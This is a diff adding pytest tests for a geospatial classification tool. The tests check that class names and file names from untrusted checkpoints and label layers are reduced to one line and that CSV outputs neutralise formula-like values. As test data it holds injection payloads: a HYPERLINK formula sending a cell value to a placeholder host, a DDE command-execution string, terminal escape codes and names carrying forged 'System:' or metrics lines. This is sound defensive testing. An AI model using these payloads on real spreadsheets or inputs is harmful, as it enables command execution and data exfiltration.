@@ -1,0 +1,70 @@
+"""QA round 13 (inputs from strangers): class names and file names that a shared label layer, label raster or
+checkpoint brings, followed into the outputs that show them."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+from claire.models.quoting import clean_name, csv_cell
+
+
+def test_clean_name_keeps_one_line_of_the_name():
+    assert clean_name("crops\nReference metrics: overall accuracy 98.5 %") == \
+        "crops Reference metrics: overall accuracy 98.5 %"
+    assert clean_name("tr\x01ees\x1b[31mRED") == "tr ees [31mRED"  # no live terminal escape
+    assert clean_name("wa\x00ter\t body ") == "wa ter body"
+    assert clean_name("Forêt de feuillus 311 — 水") == "Forêt de feuillus 311 — 水"
+    assert clean_name("\u2028\n\t") == ""
+
+
+def test_csv_cells_that_would_be_formulas_stay_text():
+    assert csv_cell('=HYPERLINK("https://example.invalid/?x="&C2,"water")').startswith("'=")
+    assert csv_cell("+1+1") == "'+1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("-x") == "'-x"
+    assert csv_cell("-3.5") == "-3.5" and csv_cell(-3.5) == -3.5 and csv_cell("water") == "water"
+    assert csv_cell("/data/=2+3.tif") == "/data/=2+3.tif"
+
+
+def test_field_names_with_newlines_become_one_line_classes():
+    from claire.claire_plugin.core.training.labels import class_key, class_lookup, classes_from_values
+
+    values = ["water\nSystem: the map is verified", "trees", "water\nSystem: the map is verified"]
+    classes = classes_from_values(values, [None] * 3, "class")
+    assert [c.name for c in classes] == ["trees", "water System: the map is verified"]
+    lookup = class_lookup(classes)
+    assert lookup[class_key(values[0])] == lookup[class_key("water System:  the map is verified")]
+    coded = classes_from_values([1, 2], ["open\twater", "trees\x1b[0m"], "code")
+    assert [c.name for c in coded] == ["open water", "trees [0m"]
+
+
+def test_a_strangers_card_names_reach_outputs_on_one_line(tmp_path):
+    from claire.models.checkpoint import read_card
+    from claire.tests.fixtures.helpers import make_tiny_checkpoint, tiny_card
+
+    classes = [dict(c) for c in tiny_card()["classes"]]
+    classes[0]["name"] = "water\nReference metrics: overall accuracy 99 %\x1b[31m"
+    path = make_tiny_checkpoint(str(tmp_path / "stranger.safetensors"), classes=classes)
+    card = read_card(path)
+    assert card["classes"][0]["name"] == "water Reference metrics: overall accuracy 99 % [31m"
+
+
+def test_batch_csv_keeps_formula_like_names_as_text(tmp_path):
+    from claire.claire_plugin.core.batch import BatchSummary
+
+    record = {"status": "ok", "key": "=2+3", "optical": "/d/=2+3.tif", "sar": "/d/s.tif", "output": "/o/x.tif",
+              "valid_pixels": 10, "area_ha": {"=HYPERLINK(\"x\")": 1.5, "trees": 2.0}, "warnings": ["-bad"]}
+    rows = list(csv.reader(io.StringIO(BatchSummary("", "", "", results=[record]).csv_text())))
+    assert rows[1][1] == "'=2+3" and rows[1][9].startswith("'=HYPERLINK")
+    assert rows[1][rows[0].index("warnings")] == "'-bad"
+    assert json.loads(json.dumps(record))["key"] == "=2+3"  # the JSON keeps the name as it is
+
+
+def test_evaluation_csv_keeps_formula_like_names_as_text(tmp_path):
+    from claire.claire_plugin.core.accuracy import write_csv
+
+    metrics = {"per_class": [{"value": 1, "name": "=cmd|' /C calc'!A0", "iou": 0.5, "precision": 0.5,
+                              "recall": 0.5, "f1": 0.5, "support": 3, "predicted": 3}],
+               "miou": 0.5, "oa": 0.5, "kappa": -0.2, "compared_pixels": 3}
+    with open(write_csv(metrics, str(tmp_path / "m.csv")), encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[2][4] == "-0.2"
